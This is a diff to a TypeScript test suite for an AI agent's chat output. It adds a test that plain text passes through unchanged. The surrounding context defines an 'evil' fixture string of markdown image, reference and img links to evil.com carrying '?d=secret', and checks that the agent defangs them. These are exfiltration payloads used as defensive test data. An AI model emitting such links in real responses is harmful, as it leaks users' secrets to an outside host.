@@ -148,6 +148,15 @@ describe("T48 chats and pages", () => {
     expect(await told({ links: ["ok.com"] })).toContain("https://ok.com/")
   })
 
+  test.each(["It costs 1,000", "a/b", "x=y", "你好，世界"])("a page gets words without links as they are: %s", async (words) => {
+    for (const links of [undefined, [], ["ok.com"]]) {
+      const given = { loop: { mode: "chat" }, memory: { enabled: false }, output: { links } } as const
+      const { session } = testAgent(scriptedModel([[...words]]), given)
+      const chunks = (await all(uiMessageChunks(session.send("hi")))) as { delta?: string }[]
+      expect(chunks.map(({ delta = "" }) => delta).join("")).toBe(words)
+    }
+  })
+
   const evil = "![a](https://evil.com/?d=secret) [b]: //evil.com/x <img src=//evil.com/y> sub.evil.com"
   const shownEvil = /!\[a\] \(https\[:\]\/ \/evil\[\.\]com\/\?d=secret\)/
 
